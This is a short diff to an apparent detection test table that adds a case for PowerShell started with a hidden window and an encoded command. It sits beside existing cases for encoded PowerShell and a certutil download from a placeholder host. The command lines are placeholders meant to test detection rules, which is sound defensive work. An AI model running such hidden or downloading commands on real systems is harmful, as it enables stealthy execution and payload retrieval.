@@ -127,6 +127,11 @@ CASES = (
     Case("shipped-library-started", [load(start("bin/shipped.so"))], [load(start("bin/shipped.exe"))]),
     Case("encoded-command-started", [start("powershell -nop -enc AAAA")], [start("powershell -File x.ps1")]),
     Case(
+        "encoded-command-started-out-of-sight",
+        [start("powershell -WindowStyle Hidden -enc AAAA")],
+        [start("powershell -enc AAAA")],
+    ),
+    Case(
         "system-tool-fetches",
         [start("certutil -urlcache -f https://far.invalid/x x")],
         [start("certutil -hashfile x")],
